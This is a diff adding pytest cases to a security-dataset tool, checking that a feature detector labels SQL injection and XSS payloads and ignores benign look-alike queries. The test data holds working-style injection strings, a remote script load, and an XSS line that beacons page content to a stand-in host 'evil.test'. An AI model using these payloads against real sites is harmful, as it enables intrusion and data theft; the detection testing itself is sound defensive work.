@@ -15,6 +15,7 @@ from pathlib import Path
 import pytest
 
 from fwyy_ollama.dataset.corpora import CATEGORIES, CorpusItem, Source, SourceMissing, web
+from fwyy_ollama.dataset.explain import find_features
 from fwyy_ollama.dataset.records import normalize_input
 from fwyy_ollama.dataset.split import skeleton
 from fwyy_ollama.report import Label
@@ -153,3 +154,31 @@ def test_sqli_labels_follow_the_rubric() -> None:
     assert web._sqli_label("' UNION ALL SELECT") is Label.HIGH
     assert web._sqli_label(" and 2=0") is Label.MEDIUM
     assert web._sqli_label("' or 'x'='y") is None  # not a tautology: the rubric fixes nothing
+
+
+@pytest.mark.parametrize(
+    ("text", "category", "feature"),
+    [
+        ("1 AND 5=(SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3)", "sqli", "time"),
+        ("1' AND GTID_SUBSET(CONCAT('q',(SELECT 1)),1) AND 'a'='a", "sqli", "error"),
+        ("1 AND ASCII(SUBSTRING((SELECT CURRENT_USER),1,1))>64", "sqli", "boolean"),
+        ("') or ('a'='a", "sqli", "tautology"),
+        ("[8].find(confirm)", "xss", "alert"),
+        ("<ScRiPt/src=//14.rs></sCrIpT>", "xss", "remote_script"),
+        ("<script>navigator.sendBeacon('//evil.test',document.body.innerHTML)</script>", "xss", "exfil"),
+    ],
+)
+def test_explain_names_the_features_of_real_payloads(text: str, category: str, feature: str) -> None:
+    assert feature in [f.name for f, _ in find_features(text, category)]
+
+
+@pytest.mark.parametrize(
+    ("text", "feature"),
+    [
+        ("SELECT * FROM t WHERE 1=1 AND x = ?", "boolean"),
+        ("select count(*) from store_sales, household_demographics, time_dim", "time"),
+        ("1' OR 7351=UUID_TO_BIN(CONCAT('q',(SELECT 1)))", "tautology"),
+    ],
+)
+def test_explain_does_not_invent_features_on_look_alikes(text: str, feature: str) -> None:
+    assert feature not in [f.name for f, _ in find_features(text, "sqli")]
